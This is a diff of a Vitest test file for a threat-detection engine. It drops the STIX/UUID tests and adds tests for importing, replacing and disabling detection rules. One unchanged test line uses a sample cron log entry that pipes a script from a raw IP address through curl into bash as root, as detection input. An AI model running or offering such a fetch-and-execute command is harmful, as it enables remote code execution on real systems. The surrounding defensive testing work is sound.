@@ -1,7 +1,6 @@
 import { beforeAll, describe, expect, test } from 'vitest';
 import { parseAttackTable, techniquesOf } from '../../../server/engine/threat/attack/table.ts';
 import type { ThreatEngine } from '../../../server/engine/threat/engine.ts';
-import { uuid5 } from '../../../server/engine/threat/stix.ts';
 import { never, openThreatEngine } from '../../support/threat-engine.ts';
 
 let engine: ThreatEngine;
@@ -69,30 +68,6 @@ test('longer than 32,768 bytes is refused by code', async () => {
   await expect(analyze('é'.repeat(16_385))).rejects.toMatchObject({ code: 'input_too_long', param: 'input' });
 });
 
-test('STIX is deterministic and refers only to what it holds', async () => {
-  const analysis = await analyze(intrusion);
-  const bundle = await engine.methods.stix({ analysis });
-  expect(await engine.methods.stix({ analysis })).toEqual(bundle);
-  const ids = new Set(bundle.objects.map((object) => object.id));
-  expect(ids.size).toBe(bundle.objects.length);
-  const references = JSON.stringify(bundle.objects).matchAll(
-    /"(?:source_ref|target_ref|created_by_ref)":"([^"]+)"/gu,
-  );
-  for (const [, id] of references) expect(ids.has(id as string)).toBe(true);
-  for (const object of bundle.objects)
-    expect(object.id).toMatch(
-      new RegExp(
-        `^${object.type}--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`,
-        'u',
-      ),
-    );
-});
-
-test('the UUID is the RFC 9562 example construction', () => {
-  expect(uuid5('a')).not.toBe(uuid5('b'));
-  expect(uuid5('a')).toBe(uuid5('a'));
-});
-
 test('rules switch off, import and go again', async () => {
   const own = await openThreatEngine();
   const text = 'Mar  4 09:14:00 web01 CRON[9]: (root) CMD (curl -s http://45.9.148.3/i.sh | bash)';
@@ -117,6 +92,41 @@ test('rules switch off, import and go again', async () => {
   });
   await own.methods.setRules({ clearImported: true });
   expect((await own.methods.rules()).some((info) => info.origin === 'imported')).toBe(false);
+});
+
+describe('imported rules', () => {
+  const rule = (id: string, title = id) =>
+    `title: ${title}\nid: ${id}\nlogsource: {product: linux}\ndetection: {s: [x], condition: s}\nlevel: low`;
+  const titles = async (own: ThreatEngine) =>
+    (await own.methods.rules()).filter(({ origin }) => origin === 'imported').map(({ title }) => title);
+
+  test('are there from the opening on, off where they were off', async () => {
+    const own = await openThreatEngine({}, { files: [{ name: 'a.yml', text: rule('a') }], disabled: ['a'] });
+    const [mine] = (await own.methods.rules()).filter(({ id }) => id === 'a');
+    expect(mine).toMatchObject({ origin: 'imported', file: 'a.yml', enabled: false });
+    await own.methods.replaceRules({ files: [{ name: 'b.yml', text: rule('b') }], disabled: [] });
+    expect(await titles(own)).toEqual(['b']);
+  });
+
+  test('a file that comes again replaces itself; an id that comes again, its rule', async () => {
+    const own = await openThreatEngine();
+    await own.methods.importRules({ files: [{ name: 'a.yml', text: rule('a') }] });
+    await own.methods.importRules({ files: [{ name: 'a.yml', text: rule('b') }] });
+    expect(await titles(own)).toEqual(['b']);
+    await own.methods.importRules({ files: [{ name: 'c.yml', text: rule('b', 'newer') }] });
+    expect(await titles(own)).toEqual(['newer']);
+  });
+
+  test('one with the id of ours stands in for it until it goes', async () => {
+    const own = await openThreatEngine();
+    const before = await own.methods.rules();
+    const files = [{ name: 'a.yml', text: rule(before[0]!.id, 'stands in') }];
+    await own.methods.importRules({ files });
+    expect(await own.methods.rules()).toHaveLength(before.length);
+    expect(await titles(own)).toEqual(['stands in']);
+    await own.methods.setRules({ clearImported: true });
+    expect(await own.methods.rules()).toEqual(before);
+  });
 });
 
 test('later ids become the ids of this edition; unknown ones are dropped', () => {
